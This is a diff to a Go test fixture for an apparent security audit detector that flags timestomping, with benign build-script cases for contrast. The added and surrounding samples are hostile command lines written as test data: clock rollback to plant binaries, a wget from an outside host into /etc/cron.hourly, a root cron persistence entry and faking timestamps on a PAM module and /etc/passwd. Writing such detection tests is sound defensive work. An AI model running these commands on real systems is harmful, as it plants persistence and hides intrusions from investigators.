@@ -46,6 +46,10 @@ var stealthSeeds = []stealthSeed{
 	{"timestomp", RuleTimestomp, audit.High, "", "gcc -o /usr/sbin/kthelper k.c\ntouch --date=\"$(date -r /usr/sbin/cron)\" /usr/sbin/kthelper"},
 	{"timestomp", RuleTimestomp, audit.High, "", "cp /tmp/.p.so /lib/security/pam_sys.so\nfor f in /lib/security/pam_sys.so; do touch -hr /lib/security/pam_unix.so \"$f\"; done"},
 	{"timestomp", RuleTimestomp, audit.High, "", intruderLine + "touch -r /etc/group /etc/passwd"},
+	{"timestomp", RuleTimestomp, audit.High, "", "NOW=$(date)\ndate -s '2019-03-14 09:12:00'\ncp ./x /usr/sbin/irqbalanced\ndate -s \"$NOW\""},
+	{"timestomp", RuleTimestomp, audit.High, "", "faketime '2018-11-02 04:10:00' install -m 755 /tmp/.b /usr/lib/x86_64-linux-gnu/libsys.so.1"},
+	{"timestomp", RuleTimestomp, audit.High, "", "timedatectl set-ntp false\ntimedatectl set-time '2020-01-01 00:00'\nwget -qO /etc/cron.hourly/0sync http://203.0.113.9/c\ntimedatectl set-ntp true"},
+	{"timestomp", RuleTimestomp, audit.High, "", "date 031409122019\necho '* * * * * root /var/tmp/.x' > /etc/cron.d/sysstat2"},
 	{"timestomp", RuleTimestomp, audit.High, "", "debugfs -w -R 'set_inode_field /usr/bin/dbus-helper mtime 201903140912' /dev/sda1"},
 	{"timestomp", RuleTimestomp, audit.High, "", "cp ./x /usr/bin/dbus-helper\npython3 - <<'EOF'\nimport os\nst = os.stat('/bin/ls')\nos.utime('/usr/bin/dbus-helper', (st.st_atime, st.st_mtime))\nEOF"},
 	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.py", "import os, shutil\nshutil.copy('./x', '/usr/sbin/sshd-keygen')\nref = os.stat('/usr/sbin/sshd')\nos.utime('/usr/sbin/sshd-keygen', ns=(ref.st_atime_ns, ref.st_mtime_ns))\n"},
@@ -167,6 +171,7 @@ for i in range(0, len(enc), 60):
 var stealthClean = []struct{ name, path, text string }{
 	{"reproducible build", "/build/pkg/debian/rules.sh", "#!/bin/sh\nmake\nfind build -newer build/stamp -exec touch -d @$SOURCE_DATE_EPOCH {} +\ntouch -d \"@${SOURCE_DATE_EPOCH}\" build/out.tar"},
 	{"reference between build outputs", "/build/pkg/build.sh", "#!/bin/sh\ncp configure.ac.in configure.ac\ntouch -r configure.ac configure aclocal.m4 Makefile.in\ntouch -r debian/changelog build/out.tar"},
+	{"clock set by a test image", "/usr/local/bin/setup-test.sh", "#!/bin/sh\ndate -s '2030-01-01'\nrun-tests --out /tmp/results\n"},
 	{"stamp file", "/usr/lib/pkg/postinst.sh", "#!/bin/sh\ntouch /var/lib/pkg/stamp\ntouch /etc/pkg/configured"},
 	{"destdir build", "/build/pkg/install.sh", "#!/bin/sh\ninstall -m 755 out \"$DESTDIR/usr/bin/tool\"\ntouch -d \"2020-01-01 00:00:00\" \"$DESTDIR/usr/bin/tool\""},
 	{"python build stamps", "/build/pkg/setup_times.py", "import os, time\nepoch = int(os.environ.get('SOURCE_DATE_EPOCH', time.time()))\nfor root, dirs, files in os.walk('build'):\n    for f in files:\n        os.utime(os.path.join(root, f), (epoch, epoch))\n"},
